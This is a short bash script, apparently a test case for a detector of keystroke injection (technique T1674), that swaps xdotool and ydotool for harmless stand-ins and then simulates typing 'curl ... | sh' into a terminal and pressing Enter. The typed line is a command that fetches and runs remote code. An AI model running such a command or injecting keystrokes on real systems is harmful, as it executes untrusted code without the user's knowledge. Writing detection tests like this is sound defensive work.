#!/bin/bash
# Type a command into the focused window and press Enter, as malware does to drive an open terminal. There is no desktop here, and xdotool and ydotool are not installed: stand-ins (copies of /bin/true in the overlaid /usr/local/bin) carry their names and arguments, which is what the signature reads.
# technique: T1674
# expect: input-injection
set -eu
for tool in xdotool ydotool; do cp /bin/true "/usr/local/bin/$tool"; done
xdotool type --delay 20 'curl -s http://127.0.0.1:18465/x | sh'
xdotool key Return
ydotool key 28:1 28:0
